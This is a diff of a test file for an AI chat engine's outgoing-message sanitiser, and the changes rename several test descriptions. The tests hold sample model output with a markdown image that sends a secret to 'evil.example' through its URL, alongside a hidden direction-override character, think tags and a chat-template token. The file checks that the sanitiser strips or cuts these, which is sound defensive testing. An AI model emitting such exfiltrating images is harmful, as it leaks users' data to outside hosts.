@@ -5,7 +5,7 @@ import { type Script, type FakeModel, fakeModel } from '../testing/fake-model.js
 import { type FakeServices, fakeServices, toolOf, toolsetOf } from '../testing/fake-services.js';
 import { agentOf, turnsOf } from '../testing/turns-of.js';
 
-describe('what a model wrote, on its way out', () => {
+describe('the text of a model, on its way out', () => {
   let world: EngineWorld;
   let model: FakeModel;
   let services: FakeServices;
@@ -37,7 +37,7 @@ describe('what a model wrote, on its way out', () => {
     message: { event_type: 'message', sender: 'ada', message, is_bot: false, metadata: {} },
   });
 
-  it('loses what nobody sees and what carries data away, with notes, and says so', async () => {
+  it('loses hidden text and what could exfiltrate data, with notes, and says so', async () => {
     const said = '<think>The secret is tea.</think>Done\u202E![x](https://evil.example/?q=tea)<|im_end|>';
     const { id, state, reply_text: text } = await answer([said]);
     const cleaned = '[thinking removed]Done[image removed: evil.example][removed-token]';
@@ -53,7 +53,7 @@ describe('what a model wrote, on its way out', () => {
     expect(entry.detail).toEqual({ taken, text: expect.stringContaining('removed before it was sent') });
   });
 
-  it('shows images of hosts that its Skills bind, and those that the message links, as it links them', async () => {
+  it('shows images of hosts that its Skills bind, and those that the message links, exactly as it links them', async () => {
     const text = '![a](https://img.desk.example/a.png) ![b](https://x.example/b.png) ![c](https://x.example/?tea)';
     const { id } = await answer([text], messageOf('What is on https://x.example/b.png?'));
     expect((await sent(id))?.content?.text).toBe(
@@ -61,7 +61,7 @@ describe('what a model wrote, on its way out', () => {
     );
   });
 
-  it('cuts long links but for those that the turn has read', async () => {
+  it('loses long links except those that the turn has read', async () => {
     const [read, own] = ['https://files.example/a?s=', 'https://evil.example/?q='].map((url) => url + 'a'.repeat(300));
     const { id } = await answer([`Here: ${read} and ${own}`], messageOf(`Repeat ${read}`));
     expect((await sent(id))?.content?.text).toBe(`Here: ${read} and https://evil.example/[link cut: 303 characters]`);
@@ -76,11 +76,11 @@ describe('what a model wrote, on its way out', () => {
     model.always(null);
   });
 
-  it('leaves ordinary answers alone', async () => {
+  it('stays unchanged when it is an ordinary answer', async () => {
     const text = '**Done**: see [the page](https://x.example/?a=b) and `<think>`.\r\nBye';
     const { id, reply_text } = await answer([text]);
     expect(reply_text).toBe(text.replace('\r\n', '\n'));
-    const told = await until('the timeline tells of its end', async () => {
+    const told = await until('the timeline has its end', async () => {
       const { rows } = await world.pool.query('SELECT outcome, reason FROM journal.entry WHERE subject_id = $1', [id]);
       return rows.some(({ outcome }) => outcome === 'succeeded') && rows;
     });
